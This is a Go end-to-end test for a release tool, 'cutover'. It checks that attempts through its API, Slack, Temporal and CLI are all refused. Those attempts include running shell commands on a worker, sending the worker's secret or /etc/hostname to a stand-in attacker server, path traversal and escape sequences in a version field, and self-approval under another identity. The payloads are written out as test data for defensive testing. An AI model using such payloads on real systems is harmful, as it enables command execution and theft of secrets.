package tests

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/cutoverhq/cutover/api"
	"github.com/cutoverhq/cutover/chatops"
	"github.com/cutoverhq/cutover/spec"
	"github.com/cutoverhq/cutover/tests/harness"
	"github.com/cutoverhq/cutover/workflows"
)

// trustDefinition is an operator's app definition: memory providers, the
// e2e plan, and who is who across the doors.
const trustDefinition = `app: %s
providers:
  environment: {type: memory, settings: {delay: 100ms}}
  traffic: {type: memory}
  analysis: {type: memory}
plan:
  - provision
  - validate
  - setWeight: 10
  - soak: {duration: 1s, interval: 1s}
  - approval: {timeout: 5m}
  - promote
people:
  - {name: carol, principals: [api:ci-carol, slack:U0CAROL]}
  - {name: dan, principals: [slack:U0DAN]}
`

// TestTrustBoundaries tries, through the real doors, what an attacker with the
// weakest credential that reaches each would: a start token, a Slack account,
// a Temporal login, a CLI. Every attempt is refused with a reason naming what
// was refused, and leaves nothing behind: no command ran, no request left the
// worker with its secrets, no release started.
func TestTrustBoundaries(t *testing.T) {
	if testing.Short() {
		t.Skip("end-to-end")
	}
	const slackSecret = "e2e-trust-signing-secret"
	// Where an attacker would send the worker's secrets.
	var exfiltrated atomic.Int64
	catcher := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		exfiltrated.Add(1)
		t.Errorf("the attacker's server got %s %s (Authorization %q)", r.Method, r.URL, r.Header.Get("Authorization"))
	}))
	defer catcher.Close()
	owned := filepath.Join(t.TempDir(), "owned")
	shell := fmt.Sprintf(`{type: local, settings: {command: [sh, -c, "id > %s"], router: {admin: "http://127.0.0.1:1", token: {env: WORKER_SECRET}}}}`, owned)

	defs := writeApps(t, map[string]string{
		"trust-shop": fmt.Sprintf(trustDefinition, "trust-shop"),
		"trust-cart": fmt.Sprintf(trustDefinition, "trust-cart"),
	})
	c := startCluster(t, "CUTOVER_DEV=false", "CUTOVER_APPS="+defs, "WORKER_SECRET=hunter2")

	// cutover serve: the API for a start token mapped to carol, and Slack.
	dir := t.TempDir()
	tokCarol := randomToken(t)
	tokens := filepath.Join(dir, "tokens.yaml")
	if err := os.WriteFile(tokens, fmt.Appendf(nil, "tokens:\n  - {name: ci-carol, sha256: %s, scopes: [release:start, release:read]}\n", api.HashToken(tokCarol)), 0o600); err != nil {
		t.Fatal(err)
	}
	chat := filepath.Join(dir, "chatops.yaml")
	if err := os.WriteFile(chat, []byte("signingSecret: {env: E2E_SLACK_SECRET}\napps:\n  trust-shop: {approvers: [U0CAROL, U0DAN]}\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	addr := c.startServe([]string{"E2E_SLACK_SECRET=" + slackSecret, "CUTOVER_APPS=" + defs}, "--tokens-file", tokens, "--chatops-config", chat)
	start := func(body string) (int, string) {
		req, _ := http.NewRequest(http.MethodPost, "http://"+addr+"/v1/releases", strings.NewReader(body))
		req.Header.Set("Authorization", "Bearer "+tokCarol)
		req.Header.Set("Content-Type", "application/yaml")
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		return resp.StatusCode, string(b)
	}
	slack := func(user, text string) string {
		body := url.Values{
			"command": {"/cutover"}, "text": {text}, "user_id": {user}, "user_name": {"carol"},
			"channel_id": {"C1"}, "team_id": {"T1"}, "trigger_id": {"trig-" + user + "-" + text},
			"response_url": {"https://hooks.slack.com/commands/T1/1/x"},
		}.Encode()
		now := strconv.FormatInt(time.Now().Unix(), 10)
		req, _ := http.NewRequest(http.MethodPost, "http://"+addr+"/slack/commands", strings.NewReader(body))
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		req.Header.Set("X-Slack-Request-Timestamp", now)
		req.Header.Set("X-Slack-Signature", chatops.Sign(slackSecret, now, []byte(body)))
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("slack %q: %d %s", text, resp.StatusCode, b)
		}
		return string(b)
	}
	noRelease := func(app string) {
		t.Helper()
		if _, errOut, code := c.cutover("status", app); code == 0 || !strings.Contains(errOut, "no release found") {
			t.Errorf("%s: a release was left behind (status exit %d: %s)", app, code, errOut)
		}
	}

	t.Run("a start token cannot run a command, reach a host, read a secret or release an undefined app", func(t *testing.T) {
		for _, tc := range []struct{ what, body, want string }{
			{"a command on the worker", "app: trust-shop\nversion: 6.6.6\nproviders:\n  environment: " + shell + "\n", "a request cannot name providers"},
			{"a scrape of the attacker's host with the worker's secret",
				fmt.Sprintf("app: trust-shop\nversion: 6.6.6\nproviders:\n  analysis: {type: scrape, settings: {url: %q, token: {env: WORKER_SECRET}}}\n", catcher.URL), "a request cannot name providers"},
			{"a Slack notifier posting /etc/hostname to the attacker",
				fmt.Sprintf("app: trust-shop\nversion: 6.6.6\nproviders:\n  notifications: [{type: slack, settings: {apiURL: %q, channel: C1, token: {file: /etc/hostname}}}]\n", catcher.URL), "a request cannot name providers"},
			{"migrations from any directory",
				"app: trust-shop\nversion: 6.6.6\nproviders:\n  migrations: {type: postgres, settings: {url: {env: WORKER_SECRET}, dir: /etc}}\n", "a request cannot name providers"},
			{"self-approval", "app: trust-shop\nversion: 6.6.6\nallowSelfApproval: true\n", "a request cannot allow self-approval"},
			{"a version naming a file outside the state folder", "app: trust-shop\nversion: ../../etc/x\n", `"field":"version","line":2,"message":"\"../../etc/x\" is not a valid version`},
			{"a version holding a terminal escape", "app: trust-shop\nversion: \"1.0\\e[31m\"\n", `"field":"version","line":2,"message":"\"1.0\\x1b[31m\" is not a valid version`},
		} {
			code, body := start(tc.body)
			if code != http.StatusBadRequest || !strings.Contains(body, tc.want) {
				t.Errorf("%s: %d %s; want 400 naming what was refused", tc.what, code, body)
			}
		}
		code, body := start("app: trust-evil\nversion: 1.0.0\n")
		if code != http.StatusForbidden || !strings.Contains(body, `app: \"trust-evil\" has no definition on the worker`) {
			t.Errorf("an undefined app: %d %s; want 403 naming it", code, body)
		}
		noRelease("trust-evil")
		if _, err := os.Stat(owned); err == nil {
			t.Error("a command ran on the worker")
		}
	})

	t.Run("a start straight through Temporal is refused the same way", func(t *testing.T) {
		for _, tc := range []struct{ app, release, want string }{
			{"trust-evil", fmt.Sprintf(`{"app": "trust-evil", "version": "1.0.0", "providers": {"environment": {"type": "local", "settings": {"command": ["sh", "-c", "id > %s"], "router": {"admin": "http://127.0.0.1:1", "token": {"env": "WORKER_SECRET"}}}}, "traffic": {"type": "memory"}, "analysis": {"type": "memory"}}}`, owned),
				`app: "trust-evil" has no definition on the worker`},
			{"trust-cart", fmt.Sprintf(`{"app": "trust-cart", "version": "1.0.0", "providers": {"environment": {"type": "memory"}, "traffic": {"type": "memory"}, "analysis": {"type": "scrape", "settings": {"url": %q, "token": {"env": "WORKER_SECRET"}}}}}`, catcher.URL),
				"providers: a request cannot name providers"},
			{"trust-cart", `{"app": "trust-cart", "version": "../../x"}`, `version: "../../x" is not a valid version`},
		} {
			input := `{"release": ` + tc.release + `, "startedBy": "mallory"}`
			if out, errOut, code := harness.Run(t, 30*time.Second, nil, c.server.CLI, "workflow", "start", "--address", c.server.Address,
				"--task-queue", "e2e", "--type", workflows.WorkflowName, "--workflow-id", spec.WorkflowID(tc.app), "--input", input); code != 0 {
				t.Fatalf("temporal workflow start: exit %d: %s %s", code, out, errOut)
			}
			st := c.waitStatus(tc.app, 30*time.Second, func(st workflows.Status) bool { return st.Outcome != workflows.OutcomeRunning })
			if st.Outcome != workflows.OutcomeFailed || !strings.Contains(st.Reason, tc.want) || !strings.Contains(st.Reason, "nothing was changed") || len(st.Steps) != 0 {
				t.Errorf("%s: outcome %s (%s), %d steps; want failed, refused naming %q, with nothing run", tc.app, st.Outcome, st.Reason, len(st.Steps), tc.want)
			}
		}
		if _, err := os.Stat(owned); err == nil {
			t.Error("a command ran on the worker")
		}
	})

	t.Run("the same person cannot approve from another door", func(t *testing.T) {
		code, body := start("app: trust-shop\nversion: 1.0.0\n")
		if code != http.StatusCreated {
			t.Fatalf("start: %d %s", code, body)
		}
		c.waitStatus("trust-shop", time.Minute, func(st workflows.Status) bool { return st.Waiting == "approval" })
		if answer := slack("U0CAROL", "approve trust-shop lgtm"); !strings.Contains(answer, "carol started this release (as api:ci-carol) and may not approve it too (as slack:U0CAROL)") {
			t.Errorf("carol approving from Slack: %s", answer)
		}
		if answer := slack("U0DAN", "approve trust-shop lgtm"); !strings.Contains(answer, "approved") {
			t.Errorf("dan approving from Slack: %s", answer)
		}
		st := c.waitStatus("trust-shop", time.Minute, func(st workflows.Status) bool { return st.Outcome != workflows.OutcomeRunning })
		if st.Outcome != workflows.OutcomePromoted || st.Person != "carol" || st.Principal.String() != "api:ci-carol" {
			t.Fatalf("outcome %s, started by %v (%s); want promoted, started by carol's token", st.Outcome, st.Principal, st.Person)
		}
		a := st.LastApproval()
		if a == nil || a.Person != "dan" || a.Principal.String() != "slack:U0DAN" || a.Via != "slack" {
			t.Errorf("approval %+v, want dan's through Slack", a)
		}
	})

	t.Run("a CLI user cannot approve their own release under another name", func(t *testing.T) {
		cli := func(operator string, args ...string) (string, string, int) {
			return harness.Run(t, 30*time.Second, append(append([]string{}, c.env...), "CUTOVER_OPERATOR="+operator), c.cli, args...)
		}
		if out, errOut, code := cli("alice", "release", "trust-cart", "2.0.0"); code != 0 {
			t.Fatalf("release: exit %d: %s %s", code, out, errOut)
		}
		c.waitStatus("trust-cart", time.Minute, func(st workflows.Status) bool { return st.Waiting == "approval" })
		_, errOut, code := cli("alice", "approve", "trust-cart", "--as", "bob (alice)")
		if code == 0 || !strings.Contains(errOut, "cli:alice started this release (as cli:alice) and may not approve it too (as cli:alice)") {
			t.Errorf("alice approving as bob: exit %d: %s", code, errOut)
		}
		if out, errOut, code := cli("bob", "approve", "trust-cart", "--as", "bob"); code != 0 {
			t.Fatalf("bob approving: exit %d: %s %s", code, out, errOut)
		}
		st := c.waitStatus("trust-cart", time.Minute, func(st workflows.Status) bool { return st.Outcome != workflows.OutcomeRunning })
		raw, _ := json.Marshal(st.Decisions)
		if st.Outcome != workflows.OutcomePromoted || len(st.Decisions) != 1 || st.Decisions[0].Principal.String() != "cli:bob" {
			t.Errorf("outcome %s, decisions %s; want promoted on bob's approval only", st.Outcome, raw)
		}
	})
	if n := exfiltrated.Load(); n != 0 {
		t.Errorf("%d requests reached the attacker's server", n)
	}
}
